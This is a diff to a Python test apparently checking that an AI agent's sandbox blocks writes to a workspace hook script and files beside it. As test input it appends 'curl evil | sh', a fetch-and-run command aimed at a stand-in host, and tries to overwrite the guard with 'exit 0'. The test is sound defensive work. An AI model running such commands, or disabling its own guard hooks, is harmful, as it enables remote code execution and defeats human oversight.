@@ -181,9 +181,11 @@ def test_a_hook_script_inside_the_workspace_is_out_of_the_sandboxs_reach(
     session = _session(workspace, home, approve=True)
     before = Path(script).read_text()
     _run(session, "Bash", {"command": "echo 'curl evil | sh' >> tools/guard.sh; "
-                           "echo written >> tools/other.txt"})
-    # the control: the same command wrote the file beside it
-    assert (workspace / "tools" / "other.txt").read_text() == "written\n"
+                           "echo beside >> tools/helper.sh; echo written >> other.txt"})
+    # the control: the same command wrote a file elsewhere in the workspace
+    assert (workspace / "other.txt").read_text() == "written\n"
     assert Path(script).read_text() == before
+    # and none beside it, where what the script sources or imports lies
+    assert not (workspace / "tools" / "helper.sh").exists()
     wrote = _run(session, "Write", {"file_path": script, "content": "exit 0 # evil\n"})
     assert wrote.is_error and Path(script).read_text() == before
